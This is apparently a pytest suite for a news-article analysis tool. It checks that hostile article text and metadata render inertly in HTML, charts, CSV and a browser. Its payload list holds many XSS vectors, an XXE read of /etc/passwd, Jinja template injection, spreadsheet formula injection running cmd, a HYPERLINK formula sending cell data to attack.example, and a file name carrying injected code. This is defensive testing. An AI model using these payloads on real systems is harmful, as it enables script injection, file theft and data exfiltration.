"""Articles that mean harm: whatever stands in a text or its metadata is shown as words and never runs.

Every payload calls, or leads to, something named `attack`, so that one rule tells harm from words: `attack` may stand
in what is read, never in what is run or fetched.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from functools import cache
from html.parser import HTMLParser
from xml.etree import ElementTree

import prepared
import pyarrow.parquet as pq
import pytest
from itables import to_html_datatable

from analysis import Article, charts, read, view
from analysis.article import CorrectionsFile, load
from analysis.quoting import words
from analysis.reading import Reading
from analysis.reading.annotations import annotated_spans, write_annotations
from analysis.story import story

PAYLOADS = {
    "script": "<script>attack()</script>",
    "end tags": "</mark></p></td></table></svg></script></style></title></textarea><script>attack()</script>",
    "event handler": "<img src=x onerror=attack()> <body onload=attack()>",
    "end of an attribute": "\" onmouseover=\"attack()\" x=\"' autofocus onfocus='attack()' x='",
    "svg": "<svg onload=attack()><foreignObject><iframe src=javascript:attack()></iframe></foreignObject></svg>",
    "svg animation": "<svg><animate attributeName=href values=javascript:attack() /><use href='data:image/svg+xml,attack' /></svg>",
    "link": "<a href=javascript:attack()>x</a> javascript:attack() vbscript:attack()",
    "data address": '<iframe src="data:text/html,<script>attack()</script>"></iframe> <object data="data:text/html,attack">',
    "base, form, meta": "<base href=//attack.example/><form action=//attack.example><meta http-equiv=refresh content=0;//attack.example>",
    "style": "<style>*{background:url(//attack.example)}</style> <link rel=stylesheet href=//attack.example> @import '//attack.example';",
    "CDATA": "]]><script>attack()</script><![CDATA[ ]]]]><![CDATA[>",
    "comment": "--><script>attack()</script><!-- --!> <!--> <!--<script>",
    "document type": "<?xml-stylesheet href='//attack.example'?><!DOCTYPE x [<!ENTITY attack SYSTEM 'file:///etc/passwd'>]>&attack;",
    "entities": "&lt;script&gt;attack()&lt;/script&gt; &#60;script&#62;attack()&#x3c;/script&#x3e; &amp;lt;b",
    "MathJax": r"$$\href{javascript:attack()}{x}$$ \(\style{background:url(//attack.example)}{x}\) \[\require{html}\class{attack}{x}\]",
    "mathtext": r"$\frac{attack}{2}$ $x^{2$ $\undefined$ \$",
    "right to left": "\u202eattack\u202c \u2066attack\u2069 \u200fattack\u061c",
    "zero width": "att\u200back\u200d \ufeffattack\u2060 \u00adattack",
    "line separators": "attack\u2028attack\u2029attack\x85attack\x0battack\x0cattack\rattack",
    "control characters": "att\0ack \x1b[31mattack\x1b]8;;http://attack.example\x07 \x9battack \x08",
    "spreadsheet link": '=HYPERLINK("http://attack.example?"&A1,"x")',
    "spreadsheet command": "+1+cmd|' /C attack'!A0",
    "spreadsheet minus": "-2+3+cmd|' /C attack'!A0",
    "spreadsheet function": "@SUM(1+1)*cmd|' /C attack'!A0",
    "spreadsheet full width": "＝cmd|' /C attack'!A0 ＋1 －1 ＠SUM(1)",
    "spreadsheet other separators": "x;=cmd|' /C attack'!A0;\"=cmd|' /C attack'!A0\t+attack\r-attack\n@attack\n =attack\n\0=attack",
    "spreadsheet quotation": "\",\"=cmd|' /C attack'!A0\",\"",
    "jinja": "{{ attack() }} {% include '/etc/passwd' %} {# x {{ self.__init__.__globals__ }}",
    "jinja block": "{% raw %}{% endblock %}{{ '{{' }} {%- for x in attack -%}",
    "Markdown": "![x](http://attack.example/x.png) [x](javascript:attack()) <http://attack.example> **b** `c` ~~~ ```",
    "magics": "%%bash\nattack\n!attack\n%run attack.py\n%%javascript\nattack()\nget_ipython().system('attack')",
    "Python": "''' + attack() + ''' \"\"\" \\'); attack() # \\N{DIGIT ONE} %(attack)s {0.__class__}",
    "template literal": "${attack()} `${attack()}` \\u003cscript\\u003eattack()\\u003c/script\\u003e",
    "long word": "attack" * 400,
    "harmless": "police",
    "long name with markup": "the " + "<b onclick=attack()>Ministry</b> of \"Attack\" & 'Markup' " * 6,
}  # fmt: skip

NEWS = """{0} leaves thousands dead
{0} officials said that over 1,000 {0} soldiers may have been killed. “About 40 {0} people left,” said {0}.
{0}
The Ministry of {0} estimates that $5 or $10 million {0} was lost; {0} declined to comment on the 12 {0} reports.
"""


@cache
def reading(payload: str) -> Reading:
    """An article full of the payload: what the rules and the tagger make of it is part of the test."""
    hostile = PAYLOADS[payload]
    told = {"title": hostile, "publisher": hostile, "published": hostile, "url": f"javascript:attack()//{hostile}"}
    return read(Article(NEWS.format(hostile), f"{hostile} 1", **told))


@cache
def possessed(payload: str) -> Reading:
    """A reading whose every name, wording, unit and topic is the payload, whether or not it would be read so."""
    found = Reading(_corrected().article)
    vars(found)["tables"] = {name: frame.copy() for name, frame in _corrected().tables.items()}  # not read once more
    for frame in found.tables.values():
        for column in WORDINGS & set(frame):
            frame[column] = frame[column].where(frame[column].isna(), PAYLOADS[payload])
    return found


@cache
def _corrected() -> Reading:
    """A reading with rows in every table."""
    text = "Reports said that over 1,000 soldiers may have died. The Kremlin put the losses at 12 men."
    record = '[[change]]\nquote = "12"\nlow = 13\nhigh = 13\nreason = "x"\nauthor = "x"\ndate = 2025-02-01\n'
    return read(Article(text, corrections=CorrectionsFile("x.corrections.toml", record)))


WORDINGS = {
    *("article_id", "title", "publisher", "published", "url", "text", "number_text", "unit", "concept", "topic"),
    *("source_text", "cue_text", "content_text", "name", "source_name", "machine", "corrected", "reason", "author"),
}


hostile = pytest.mark.parametrize("payload", PAYLOADS)

_WORDS = {"title", "alt", "aria-label", "data-order", "data-search", "content"}
"""Attributes whose values are read and never run."""
_ACTIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "foreignobject",
    "animate",
    "set",
    "use",
    "image",
    "img",
    "link",
}


_PLAIN = re.compile(r"(?:tables/|\.\./\.\./figures/)?[\w-]+(?:/[\w-]+\.svg)?")
"""An article's id, or a file beside the page in a folder of that name: letters, digits and hyphens run nothing."""


class Harm(HTMLParser):
    """What of the article would run or be fetched in a page, and the words that are read in it."""

    def __init__(self, html: str, active: frozenset[str] | set[str] = frozenset(_ACTIVE)):
        super().__init__(convert_charrefs=True)
        self.active, self.inside = active, ""
        self.found, self.words, self.elements = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.inside = tag
        self.elements.append((tag, [name for name, _ in attrs]))
        if tag in self.active:
            self.found.append(tag)
        for name, value in attrs:
            told = "attack" in (value or "").lower() and not _PLAIN.fullmatch(value or "")
            steers = name.startswith("on") or (name not in _WORDS and told)
            elsewhere = name in ("href", "src", "xlink:href") and not (value or "").startswith(
                ("#", "data:", "http", "tables/", "../../figures/")
            )
            if "attack" in name or steers or elsewhere:
                self.found.append((tag, name, value))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_comment(self, data):
        self.found += [data] * ("attack" in data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def handle_data(self, data):
        if self.inside in ("script", "style"):
            self.found += [data] * ("attack" in data)
        else:
            self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def squeezed(text: str) -> str:
    return " ".join(text.split())


@hostile
def test_a_marked_article_shows_the_payload_as_words(payload):
    found = reading(payload)
    shown = Harm(found._repr_html_())
    assert shown.found == []
    for paragraph in found.article.paragraphs:
        assert paragraph.of(found.article.text) in shown.text
    for quantity in found.quantities["quantity_id"]:
        assert Harm(found.show(quantity)._repr_html_()).found == []
    assert Harm(possessed(payload)._repr_html_()).found == []


@hostile
def test_tables_and_prose_show_the_payload_as_words(payload):
    found = possessed(payload)
    for name, frame in found.tables.items():
        shown = Harm(view.Table(name, frame, {column: column for column in frame}, "nothing")._repr_html_())
        assert shown.found == []
        assert frame.empty or PAYLOADS[payload] in shown.text
    told = [words(sentence) for sentence in story(found)]
    prose = Harm(view.Prose(*told)._repr_html_())
    assert prose.found == [] and prose.text == " ".join(told)


@hostile
def test_a_sortable_table_has_the_elements_of_a_harmless_one(payload, monkeypatch):
    monkeypatch.setattr(view, "_interactive", True)
    frames = [possessed(one).claims[["source_name", "topic"]] for one in (payload, "harmless")]
    ours = [
        view.Table("claims", frame, {"source_name": "source", "topic": "topic"}, "nothing")._repr_html_()
        for frame in frames
    ]
    # In JupyterLab any DataFrame is shown so.
    plain = [to_html_datatable(frame) for frame in frames]
    for html, harmless in (ours, plain):
        assert Harm(html).elements == Harm(harmless).elements


@hostile
def test_charts_are_sound_svg_that_runs_and_fetches_nothing(payload):
    for draw in (charts.claims, charts.sources, charts.reading):
        svg = draw(possessed(payload)).svg()
        assert Harm(svg, _ACTIVE - {"use"}).found == []  # matplotlib repeats a marker's shape
        for element in ElementTree.fromstring(svg).iter():
            links = [value for name, value in element.attrib.items() if name.endswith("href")]
            assert all(link.startswith("#") for link in links)


@hostile
def test_csv_is_safe_in_spreadsheets_while_parquet_keeps_the_text(payload, tmp_path):
    found = reading(payload)
    found.write(tmp_path)
    for name, frame in found.tables.items():
        assert pq.read_table(tmp_path / f"{name}.parquet").num_rows == len(frame)
        for delimiter in ",;\t" if (tmp_path / f"{name}.csv").exists() else "":
            with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as file:
                cells = [cell for row in csv.reader(file, delimiter=delimiter, strict=False) for cell in row]
            assert not [cell for cell in cells if runs(cell)]
    quantities = pq.read_table(tmp_path / "quantities.parquet").to_pylist()
    assert quantities
    for row in quantities:
        assert row["text"] == found.article.text[row["start"] : row["end"]]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula; a negative number is none."""
    if cell.startswith(("\t", "\r", "\n")):
        return True
    cell = "".join(character for character in cell if character.isprintable()).strip(' "\xa0')
    return cell.startswith(tuple("=+-@＝＋－＠")) and not cell[1:].replace(".", "").isdigit()


@hostile
def test_annotations_are_inert_and_lead_back_to_the_words(payload, tmp_path):
    found = reading(payload)
    write_annotations(found, tmp_path)
    written = (tmp_path / "annotations.jsonld").read_text("utf-8")
    assert Harm(written).found == [] and "\u202e" not in written
    spans = annotated_spans(json.loads(written), found.article.text)
    assert [spans[row["quantity_id"]]["quantity"] for row in found.quantities.to_dict("records")] == [
        [(row["start"], row["end"])] for row in found.quantities.to_dict("records")
    ]


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """The report of one article that holds every payload, in its text, its metadata and its name."""
    folder = tmp_path_factory.mktemp("hostile")
    line = "{0} officials said that over 40 {0} soldiers may have died.\n\n"
    lines = "".join(line.format(payload) for payload in PAYLOADS.values() if "\0" not in payload)
    front = "title: <script>attack()</script> {{ attack() }}\npublisher: <img src=x onerror=attack()>\nurl: javascript:attack()"
    article = folder / "{{ attack() }} '); attack() # <img src=x onerror=attack()>.md"
    article.write_text(f"---\n{front}\n---\n{lines}", encoding="utf-8", newline="\n")
    done = prepared.run(["report", article, "--output", folder / "out", "--language", "any"])
    assert done.returncode == 0, done.stderr
    (made,) = (folder / "out" / "reports").glob("*/report.html")
    return load(article, language="any"), made


def test_the_page_shows_every_payload_as_words(page):
    article, made = page
    shown = Harm(made.read_text("utf-8"), _ACTIVE - {"script", "use", "img"})
    assert shown.found == []
    words = squeezed(shown.text)
    for paragraph in article.paragraphs:
        assert squeezed(paragraph.of(article.text)) in words
    assert article.title in words


def test_in_a_browser_the_page_runs_and_fetches_nothing_of_the_article(page):
    executable = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if executable is None:
        pytest.skip("no Chromium on this machine")
    from playwright.sync_api import sync_playwright

    happened = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox"])
        tab = browser.new_page()
        tab.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
        tab.on("request", lambda request: happened.append(request.url[:200]))
        tab.on("pageerror", lambda error: happened.append(str(error)))
        tab.on("console", lambda message: happened.append(message.text) if message.type == "error" else None)
        address = page[1].as_uri()
        tab.goto(address)
        tab.evaluate(
            "for (const element of document.querySelectorAll('*')) for (const name of ['mouseover', 'focus', 'error', 'load'])"
            " element.dispatchEvent(new Event(name))"
        )
        own = (address, "data:image/")
        assert [
            event for event in happened if not event.startswith(own) or "attack" in event.removeprefix(address)
        ] == []
        browser.close()
